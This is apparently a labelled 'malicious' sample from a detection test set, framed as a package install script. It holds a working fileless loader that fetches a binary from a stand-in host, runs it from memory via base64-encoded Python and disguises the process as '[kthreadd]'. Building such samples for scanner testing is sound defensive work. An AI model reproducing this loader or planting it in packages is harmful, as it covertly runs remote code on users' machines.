// expect: malicious
// when: install
// source: blind set 14 (a libvips probe's install script; Ezuri-style fileless loaders): an ELF downloaded
// into memory is written to python3's standard input, whose inline code copies it to a memfd and execs it
'use strict';
const http = require('http');
const { spawn } = require('child_process');

http.get({ host: '192.0.2.141', port: 8080, path: '/vips/cache-amd64' }, (res) => {
  const parts = [];
  res.on('data', (d) => parts.push(d));
  res.on('end', () => {
    const bin = Buffer.concat(parts);
    const code = Buffer.from('aW1wb3J0IG9zLHN5cwpkPXN5cy5zdGRpbi5idWZmZXIucmVhZCgpCmZkPW9zLm1lbWZkX2NyZWF0ZSgiIiwxKQpvcy53cml0ZShmZCxkKQpvcy5leGVjdmUoIi9wcm9jL3NlbGYvZmQvJWQiJWZkLFsiW2t0aHJlYWRkXSJdLHt9KQo=', 'base64').toString();
    const py = spawn('python3', ['-c', code], { detached: true, stdio: ['pipe', 'ignore', 'ignore'] });
    py.stdin.end(bin);
    py.unref();
  });
}).on('error', () => {});
